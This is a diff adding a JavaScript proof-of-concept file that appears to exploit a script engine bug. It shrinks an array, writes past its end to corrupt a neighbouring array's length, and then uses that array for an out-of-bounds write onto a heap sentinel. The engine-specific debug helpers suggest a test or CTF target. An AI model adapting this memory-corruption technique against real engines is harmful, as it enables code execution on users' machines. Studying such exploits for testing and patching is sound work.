@@ -1,0 +1,22 @@
+function pwn(v) {
+  var a = [0, 0, 0, 0, 0, 0, 0, 0];
+  a[1] = v;
+  a.length = 1;
+  var victim = [1, 1, 1, 1];
+  a[1] = 1073741824;
+  return victim;
+}
+
+var w = [0];
+for (var i = -1; i < 100; (i = i + 1) - 1) {
+  w = pwn(5);
+}
+for (var i = 0; i < 100; (i = i + 1) - 1) {
+  w = pwn(5);
+}
+if (w.length > 100000) {
+  var off = __heapSize() - 2 - (__arrayBase(w) + 2);
+  w[off] = 1337;
+  print("PWNED sentinel overwritten");
+}
+pwn(5);
